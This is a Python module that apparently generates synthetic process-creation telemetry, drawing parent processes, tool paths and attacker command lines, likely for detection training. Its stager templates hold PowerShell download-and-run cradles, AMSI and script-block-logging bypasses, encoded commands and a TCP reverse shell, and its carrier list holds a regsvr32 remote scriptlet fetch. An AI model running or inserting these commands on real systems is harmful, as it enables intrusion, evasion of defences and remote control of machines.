"""Plausible parents, images and tools' places for a command, drawn without regard to what the command does."""

from __future__ import annotations

import base64
import random
from typing import NamedTuple

from training.forms.scene import Scene, draw_folder, draw_name

SYSTEM32 = "C:\\Windows\\System32"


class Parent(NamedTuple):
    """The process that started another."""

    image: str
    command_line: str


# One in a few is the shell that types the command; the rest are what starts commands in enterprises.
WINDOWS_PARENTS = (
    Parent("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    Parent(f"{SYSTEM32}\\services.exe", f"{SYSTEM32}\\services.exe"),
    Parent(f"{SYSTEM32}\\svchost.exe", f"{SYSTEM32}\\svchost.exe -k netsvcs -p -s Schedule"),
    Parent(f"{SYSTEM32}\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs"),
    Parent(
        f"{SYSTEM32}\\taskeng.exe",
        "taskeng.exe {B5A3C8D1-0A5E-4E1C-9C77-3B4C6D0F1A22} S-1-5-18:NT AUTHORITY\\System:Service:",
    ),
    Parent(f"{SYSTEM32}\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
    Parent(f"{SYSTEM32}\\wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding"),
    Parent(f"{SYSTEM32}\\inetsrv\\w3wp.exe", 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0"'),
    Parent(f"{SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe"),
    Parent(f"{SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell_ise.exe", "powershell_ise.exe"),
    Parent("C:\\Program Files\\PowerShell\\7\\pwsh.exe", '"C:\\Program Files\\PowerShell\\7\\pwsh.exe"'),
    Parent("C:\\Windows\\CCM\\CcmExec.exe", "C:\\Windows\\CCM\\CcmExec.exe"),
    Parent(
        "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe",
        '"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\agentexecutor.exe" -powershell',
    ),
    Parent(
        "C:\\Program Files\\Tanium\\Tanium Client\\TaniumClient.exe",
        '"C:\\Program Files\\Tanium\\Tanium Client\\TaniumClient.exe" --service',
    ),
    Parent("C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal\\WindowsTerminal.exe", "WindowsTerminal.exe"),
    Parent("C:\\Program Files\\Microsoft VS Code\\Code.exe", '"C:\\Program Files\\Microsoft VS Code\\Code.exe"'),
    Parent("C:\\Program Files\\OpenSSH\\sshd.exe", "sshd.exe -z"),
    Parent("C:\\Program Files\\Python311\\python.exe", "python.exe agent.py"),
    Parent("C:\\Program Files\\Java\\jdk-17\\bin\\java.exe", "java.exe -jar agent.jar"),
    Parent(
        "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe",
        "sqlservr.exe -sMSSQLSERVER",
    ),
    Parent("C:\\Program Files\\NSClient++\\nscp.exe", '"C:\\Program Files\\NSClient++\\nscp.exe" service --run'),
    Parent("C:\\Windows\\SysWOW64\\rundll32.exe", "C:\\Windows\\SysWOW64\\rundll32.exe"),
    Parent("C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe"),
    Parent("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WINWORD.EXE /n"),
    Parent("C:\\Program Files (x86)\\TeamViewer\\TeamViewer_Service.exe", "TeamViewer_Service.exe"),
)

# What an agent's first line does: fetch and run, load from itself, put logging and AMSI out, open a shell.
_STAGERS = (
    "IEX (New-Object Net.WebClient).DownloadString('http://{host}:{port}/{name}')",
    "$w=New-Object Net.WebClient;$w.Proxy=[Net.WebRequest]::DefaultWebProxy;"
    "$w.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;IEX $w.DownloadString('https://{host}/{name}')",
    "if($PSVersionTable.PSVersion.Major -ge 3){{$p=[Ref].Assembly.GetType('System.Management.Automation.Utils')."
    "GetField('cachedGroupPolicySettings','NonPublic,Static');if($p){{$v=$p.GetValue($null);"
    "$v['ScriptBlockLogging']['EnableScriptBlockLogging']=0}}}};$k=[Text.Encoding]::ASCII.GetBytes('{blob}');"
    "$s='http://{host}:{port}';$d=(New-Object Net.WebClient).DownloadData($s+'/{name}.php')",
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')."
    "SetValue($null,$true);IEX((New-Object Net.WebClient).DownloadString('http://{host}:{port}/{name}'))",
    "$a=[Reflection.Assembly]::Load([Convert]::FromBase64String('{blob}'));$a.EntryPoint.Invoke($null,@(,[string[]]@()))",
    "$m=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{blob}'));IEX (New-Object IO.StreamReader("
    "New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
    "$c=New-Object Net.Sockets.TCPClient('{host}',{port});$n=$c.GetStream();[byte[]]$b=0..65535|%{{0}};"
    "while(($i=$n.Read($b,0,$b.Length)) -ne 0){{$o=(iex ([Text.Encoding]::ASCII.GetString($b,0,$i)) 2>&1|Out-String)}}",
)
# Other programs an agent lives in: image, command line.
_CARRIERS = (
    ("{folder}\\{name}.exe", "{folder}\\{name}.exe"),
    ("{folder}\\{name}.exe", '"{folder}\\{name}.exe"'),
    ("C:\\Users\\{user}\\Downloads\\{name}.exe", '"C:\\Users\\{user}\\Downloads\\{name}.exe"'),
    ("C:\\Users\\{user}\\AppData\\Local\\Temp\\{name}.exe", "C:\\Users\\{user}\\AppData\\Local\\Temp\\{name}.exe"),
    (f"{SYSTEM32}\\rundll32.exe", "rundll32.exe {folder}\\{name}.dll,Start"),
    (f"{SYSTEM32}\\regsvr32.exe", "regsvr32 /s /n /u /i:http://{name}.example/{name}.sct scrobj.dll"),
    (f"{SYSTEM32}\\mshta.exe", 'mshta "C:\\Users\\{user}\\Downloads\\{name}.hta"'),
    (f"{SYSTEM32}\\wscript.exe", '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\{user}\\Downloads\\{name}.js"'),
    (f"{SYSTEM32}\\cscript.exe", "cscript //nologo {folder}\\{name}.vbs"),
    ("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe", "MSBuild.exe {folder}\\{name}.xml"),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n '
        '"C:\\Users\\{user}\\Downloads\\{name}.docm" /o ""',
    ),
    (f"{SYSTEM32}\\cmd.exe", 'C:\\Windows\\system32\\cmd.exe /c "{folder}\\{name}.bat"'),
    (f"{SYSTEM32}\\cmd.exe", 'cmd.exe /c start /b "" {folder}\\{name}.exe'),
    (f"{SYSTEM32}\\spoolsv.exe", "C:\\Windows\\System32\\spoolsv.exe"),
    (f"{SYSTEM32}\\dllhost.exe", "C:\\Windows\\system32\\dllhost.exe"),
    (f"{SYSTEM32}\\werfault.exe", "C:\\Windows\\System32\\WerFault.exe"),
)

LINUX_PARENTS = (
    Parent("/usr/sbin/sshd", "sshd: {user}@pts/0"),
    Parent("/usr/bin/bash", "-bash"),
    Parent("/bin/bash", "bash"),
    Parent("/usr/bin/zsh", "-zsh"),
    Parent("/usr/sbin/cron", "/usr/sbin/CRON -f"),
    Parent("/usr/lib/systemd/systemd", "/usr/lib/systemd/systemd --switched-root --system --deserialize 22"),
    Parent("/usr/bin/python3.9", "python3 /opt/agent/run.py"),
    Parent("/usr/bin/sudo", "sudo -s"),
    Parent("/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2 -namespace moby"),
    Parent("/usr/sbin/apache2", "/usr/sbin/apache2 -k start"),
    Parent("/usr/bin/tmux", "tmux new -s main"),
    Parent("/usr/bin/perl", "perl /usr/local/bin/collect.pl"),
    Parent("/opt/puppetlabs/puppet/bin/ruby", "puppet agent: applying configuration"),
)

SHELLS = {
    "cmd": (f"{SYSTEM32}\\cmd.exe", "C:\\Windows\\SysWOW64\\cmd.exe"),
    "powershell": (
        f"{SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe",
        "C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe",
        "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
    ),
    "bash": ("/usr/bin/bash", "/bin/bash"),
    "sh": ("/usr/bin/dash", "/bin/sh"),
    "zsh": ("/usr/bin/zsh", "/bin/zsh"),
}

# Words cmd.exe carries out itself: no process of that name is ever created.
CMD_BUILTINS = frozenset(
    "assoc call cd chdir cls copy date del dir echo endlocal erase exit for ftype goto if md mkdir mklink move path "
    "pause popd prompt pushd rd rem ren rename rmdir set setlocal shift start time title type ver verify vol".split()
)
_PLACES = {
    "code": "C:\\Program Files\\Microsoft VS Code",
    "docker": "C:\\Program Files\\Docker\\Docker\\resources\\bin",
    "dotnet": "C:\\Program Files\\dotnet",
    "git": "C:\\Program Files\\Git\\cmd",
    "java": "C:\\Program Files\\Java\\jdk-17\\bin",
    "node": "C:\\Program Files\\nodejs",
    "npm": "C:\\Program Files\\nodejs",
    "npx": "C:\\Program Files\\nodejs",
    "python": "C:\\Python311",
    "py": "C:\\Windows",
    "sqlcmd": "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn",
    "7z": "C:\\Program Files\\7-Zip",
    "explorer": "C:\\Windows",
    "notepad": "C:\\Windows\\System32",
    "regedit": "C:\\Windows",
}
_WBEM = ("wmic", "mofcomp", "wbemtest", "scrcons")
_POWERSHELL = ("powershell", "pwsh")


def draw_parent(rng: random.Random, scene: Scene, platform: str) -> Parent:
    """A parent from the common pool, or a script's shell."""
    if platform == "linux":
        parent = rng.choice(LINUX_PARENTS)
        return parent._replace(command_line=parent.command_line.replace("{user}", scene.user))
    if rng.random() < 0.4:
        return draw_shell_parent(rng, scene)
    return rng.choice(WINDOWS_PARENTS)


def draw_agent(rng: random.Random, scene: Scene) -> Parent:
    """What an attacker's commands run under: a stager, a payload that a user opened, a program taken over."""
    if rng.random() < 0.5:
        image = SHELLS["powershell"][rng.randrange(2)]
        head = rng.choice((image, f'"{image}"', "powershell", "powershell.exe"))
        options = rng.choice(
            ("-noP -sta -w 1", "-nop -w hidden", "-NoP -NonI -W Hidden -Exec Bypass", "-nop -exec bypass")
        )
        script = rng.choice(_STAGERS).format(
            name=draw_name(rng),
            host=f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
            port=rng.choice((80, 443, 8080, 8443, rng.randrange(1024, 65536))),
            blob=base64.b64encode(rng.randbytes(rng.randrange(60, 200))).decode(),
        )
        if rng.random() < 0.3:
            return Parent(image, f'{head} {options} -c "{script}"')
        encoded = base64.b64encode(script.encode("utf-16-le")).decode()
        return Parent(image, f"{head} {options} {rng.choice(('-enc', '-e', '-EncodedCommand'))} {encoded}")
    image, line = rng.choice(_CARRIERS)
    places = {"folder": draw_folder(rng, scene).rstrip("\\"), "name": draw_name(rng), "user": scene.user}
    return Parent(image.format(**places), line.format(**places))


def draw_shell_parent(rng: random.Random, scene: Scene) -> Parent:
    """cmd.exe as an interactive window, or running a batch file."""
    image = SHELLS["cmd"][0]
    script = f"{draw_folder(rng, scene)}\\{draw_name(rng)}".replace("\\\\", "\\")
    line = rng.choice(
        (
            "cmd.exe",
            '"C:\\Windows\\System32\\cmd.exe"',
            "C:\\Windows\\system32\\cmd.exe",
            f'cmd /c "{script}.bat"',
            f'C:\\Windows\\system32\\cmd.exe /c ""{script}.cmd" "',
        )
    )
    return Parent(image, line)


def locate_windows(program: str, rng: random.Random, folder: str) -> str:
    """The full path a program's name would resolve to; programs Windows does not bring stand in `folder`."""
    bare = program.strip('"')
    if "\\" in bare or "/" in bare:
        path = bare.replace("/", "\\")
        return path if "." in path.rsplit("\\", 1)[-1] else path + ".exe"
    name = bare if "." in bare else bare + ".exe"
    stem = name.rsplit(".", 1)[0].lower()
    if stem in _WBEM:
        return f"{SYSTEM32}\\wbem\\{name}"
    if stem in _POWERSHELL:
        return SHELLS["powershell"][2 if stem == "pwsh" else 0]
    if stem in _PLACES:
        return f"{_PLACES[stem]}\\{name}"
    if stem in SYSTEM_PROGRAMS:
        system = rng.choice((SYSTEM32, SYSTEM32, SYSTEM32, "C:\\Windows\\system32", "C:\\Windows\\SysWOW64"))
        return f"{system}\\{name}"
    return f"{folder}\\{name}".replace("\\\\", "\\")


# Programs of System32, named so that an image's path can be told from the command alone.
SYSTEM_PROGRAMS = frozenset(
    "arp at attrib auditpol bcdedit bitsadmin certreq certutil cipher cmd cmdkey cmstp control cscript csvde cvtres "
    "diskpart diskshadow dism dnscmd dsacls dsadd dsget dsmod dsquery dsrm driverquery esentutl eventcreate eventvwr "
    "expand extrac32 fc find findstr finger fltmc forfiles fsutil ftp gpresult gpupdate getmac hostname icacls ie4uinit "
    "ieexec infdefaultinstall installutil ipconfig klist ksetup lodctr logman logoff makecab mavinject mmc mountvol "
    "msdt mshta msiexec mstsc nbtstat net net1 netdom netsh netstat nltest nslookup ntdsutil odbcconf openfiles "
    "pathping pcalua ping pnputil presentationhost print pubprn qprocess query quser qwinsta rasdial rdrleakdiag "
    "reg regedit regini regsvr32 regsvcs repadmin replace robocopy route rpcping rundll32 runas sc schtasks "
    "scriptrunner sdbinst secedit setspn setx sfc shutdown sort ssh scp sfc syncappvpublishingserver systeminfo "
    "takeown tar taskkill tasklist tracert tree tttracer vssadmin w32tm wbadmin wecutil wevtutil where whoami winrm "
    "winrs wscript wsl wusa xcopy curl bash more clip timeout label chkdsk defrag powercfg slmgr gpedit calc mspaint write dsregcmd iisreset vssvc".split()
)
